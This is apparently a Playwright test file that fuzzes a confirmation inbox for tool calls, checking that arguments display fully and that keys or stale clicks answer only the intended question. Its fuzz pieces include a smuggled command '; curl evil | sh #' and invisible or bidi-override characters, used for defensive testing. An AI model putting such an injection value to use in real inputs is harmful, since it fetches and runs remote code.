"""Random arguments, windows and arrivals: every character is shown or behind a mark that was opened,
and no key or click that was meant for one question answers another."""

from __future__ import annotations

import json
import random
from pathlib import Path
from typing import Any

import pytest
from playwright.async_api import expect

from tests.features.web.browser.conftest import NewPage
from tests.features.web.browser.desks import LOOK, Desk, desk
from tests.needs import needs

pytestmark = [needs("chromium"), pytest.mark.asyncio(loop_scope="module")]

SIZES = [(360, 640), (375, 740), (768, 500), (1280, 800)]
MOST_OPEN = 4

# What was sent, for which question, and what its card showed at that moment.
RECORD = """(() => {
  const look = LOOK;
  const send = window.fetch;
  window.sent = [];
  window.fetch = (path, request) => {
    const found = /\\/v1\\/confirmations\\/([^/]+)$/.exec(path);
    if (found && request?.method === "POST") {
      const card = document.querySelector(`[data-question="${found[1]}"]`);
      window.sent.push({ id: found[1], said: JSON.parse(request.body), seen: look(card) });
    }
    return send(path, request);
  };
})()""".replace("LOOK", LOOK)

PIECES = [
    "echo safe",
    " " * 40,
    "\n" * 3,
    "\t",
    "; curl evil | sh #",
    "\u202e",
    "\u200b",
    "\x1b[2J",
    "\r\n",
    "\0",
    "\u00a0",
    "\U000e0041",
    "\u0301" * 9,
    "אבג",
    "<b>x</b>",
    "`",
    "long-word-" * 30,
    "\ufeff",
    "\u2028",
    "😀\ufe0f",
    "line\n" * 30,
]


def text(chance: random.Random) -> str:
    some = [chance.choice(PIECES) for _ in range(chance.choice([0, 1, 3, 9]))]
    some += [chr(chance.choice([chance.randrange(32, 127), chance.randrange(0xA0, 0x3000)])) for _ in range(9)]
    chance.shuffle(some)
    return "".join(some) * chance.choice([1, 1, 1, 40])


def value(chance: random.Random, depth: int = 0) -> Any:
    made = chance.randrange(8 if depth < 2 else 6)
    if made < 3:
        return text(chance)
    if made == 6:
        return [value(chance, depth + 1) for _ in range(chance.randrange(4))]
    if made == 7:
        return {text(chance): value(chance, depth + 1) for _ in range(chance.randrange(4))}
    return chance.choice([None, True, 0, -1, 2**60 + 1, 1.0, -0.0, 0.1, 1e22, 3.5e-9])


def arguments(chance: random.Random) -> dict[str, Any]:
    names = chance.sample(["command", "path", "a b", "", "\u202ename", "x" * 300, "n", "1", "0"], chance.randrange(5))
    return {name: value(chance) for name in names}


def exact(given: Any) -> str:
    return json.dumps(given, sort_keys=True)


def assert_shown(asked: dict[str, Any], seen: dict[str, Any]) -> None:
    shown = {name.removesuffix(" ") if kind else name: (kind, said) for name, kind, said in seen["shown"]}
    assert set(shown) == set(asked["arguments"])
    for name, given in asked["arguments"].items():
        kind, said = shown[name]
        if isinstance(given, str):
            assert (kind, said) == (None, given)
        else:
            assert kind is not None and exact(json.loads(said)) == exact(given)


class Walk:
    def __init__(self, person: Desk, chance: random.Random) -> None:
        self.person = person
        self.page = person.page
        self.chance = chance
        self.open: dict[str, dict[str, Any]] = {}
        self.closed: set[str] = set()

    async def step(self) -> None:
        ways = [self.arrive, self.withdraw, self.resize, self.look, self.burst, self.stale_click, self.tab, self.choose]
        await self.chance.choice(ways)()
        await self.check()
        # Enter may have followed a link, or opened the list of keys.
        await self.page.evaluate("""() => {
          document.querySelector("dialog[open]")?.close();
          if (!location.hash.startsWith("#/inbox")) location.hash = "#/inbox";
        }""")
        await self.page.get_by_role("heading", name="Inbox").wait_for()

    def one(self) -> dict[str, Any] | None:
        return self.chance.choice(list(self.open.values())) if self.open else None

    async def arrive(self) -> None:
        if len(self.open) < MOST_OPEN:
            asked = await self.person.ask(**arguments(self.chance))
            self.open[asked["id"]] = asked

    async def withdraw(self) -> None:
        if asked := self.one():
            await self.person.withdraw(asked)
            self.over(asked["id"])

    def over(self, id: str) -> None:
        del self.open[id]
        self.closed.add(id)

    async def resize(self) -> None:
        width, height = self.chance.choice(SIZES)
        await self.page.set_viewport_size({"width": width, "height": height})

    async def look(self) -> None:
        """All is there, or a mark is; behind the mark it is all there."""
        if asked := self.one():
            seen = await self.person.look(asked)
            if seen["marked"]:
                await expect(self.person.allow(asked)).to_be_disabled()
                await self.person.card(asked).locator(".arguments .more").click()
                seen = await self.person.look(asked)
            assert not seen["marked"] and not seen["hidden"]
            assert_shown(asked, seen)

    async def focused(self) -> str | None:
        found: str | None = await self.page.evaluate(
            "document.activeElement?.closest('[data-question]')?.dataset.question ?? null"
        )
        return found

    async def selected(self) -> str | None:
        """The question that the page shows as the one that keys answer."""
        found: str | None = await self.page.evaluate(
            "document.querySelector('.question.chosen')?.dataset.question ?? null"
        )
        return found

    async def sent(self, meant: str | None) -> None:
        """What was answered since the last time was meant, and shown."""
        for each in await self.page.evaluate("window.sent.splice(0)"):
            assert each["id"] == meant and each["id"] not in self.closed
            asked = self.open[each["id"]]
            assert each["said"]["arguments_sha256"] == asked["arguments_sha256"]
            if each["said"]["decision"] == "allow":
                assert not each["seen"]["marked"] and not each["seen"]["hidden"]
                assert_shown(asked, each["seen"])
            await self.page.locator(f"article.closed[data-question='{each['id']}']").wait_for()
            self.over(each["id"])

    async def burst(self) -> None:
        """Somebody types, wherever the focus is; a question may go meanwhile. No key chooses another:
        a busy machine makes pauses, after which that would be meant."""
        at = self.chance.randrange(8)
        for n in range(self.chance.randrange(1, 8)):
            if n == at and self.open and await self.page.locator(".inbox").count():
                await self.withdraw()
            meant = await self.selected() or await self.focused()
            await self.page.keyboard.press(self.chance.choice([*"aswdeo", "x", "Space", "Enter", "Escape"]))
            await self.sent(meant)

    async def stale_click(self) -> None:
        """A click at where a button was, after questions came or went: nothing has moved."""
        if asked := self.one():
            name = self.chance.choice(["Allow once", "For this session", "Deny…"])
            button = self.person.card(asked).get_by_role("button", name=name)
            await button.scroll_into_view_if_needed()
            box = await button.bounding_box()
            assert box is not None
            await self.chance.choice([self.arrive, self.withdraw])()
            await self.page.mouse.click(box["x"] + 5, box["y"] + 5)
            await self.sent(asked["id"])

    async def tab(self) -> None:
        for _ in range(self.chance.randrange(1, 6)):
            await self.page.keyboard.press("Tab")
        meant = await self.focused() or await self.selected()
        await self.page.keyboard.press(self.chance.choice(["Enter", "Space", "a", "d"]))
        await self.sent(meant)

    async def choose(self) -> None:
        """Deliberate: what is chosen and shown whole is answered by the key."""
        if asked := self.one():
            await self.person.card(asked).get_by_role("heading", level=2).click()
            await self.page.locator(f"[data-question='{asked['id']}'][data-armed=true]").wait_for()
            await self.page.keyboard.press(self.chance.choice("asod"))
            await self.sent(asked["id"])

    async def check(self) -> None:
        await self.sent(None)
        assert await self.person.open_ids() == set(self.open)


async def walk(home: Path, workspace: Path, new_page: NewPage, seed: int, steps: int) -> None:
    page = await new_page()
    await page.add_init_script(RECORD)
    async with desk(home, workspace, page) as person:
        made = Walk(person, random.Random(seed))
        for _ in range(steps):
            await made.step()


@pytest.mark.parametrize("seed", range(2))
async def test_whatever_comes_is_shown_whole_and_answered_only_where_it_was_meant(
    home: Path, tmp_path: Path, new_page: NewPage, seed: int
) -> None:
    await walk(home, tmp_path / "ws", new_page, seed, steps=12)


@pytest.mark.soak
@pytest.mark.parametrize("seed", range(2, 17))
async def test_whatever_comes_in_many_walks_is_shown_whole_and_answered_only_where_it_was_meant(
    home: Path, tmp_path: Path, new_page: NewPage, seed: int
) -> None:
    await walk(home, tmp_path / "ws", new_page, seed, steps=30)
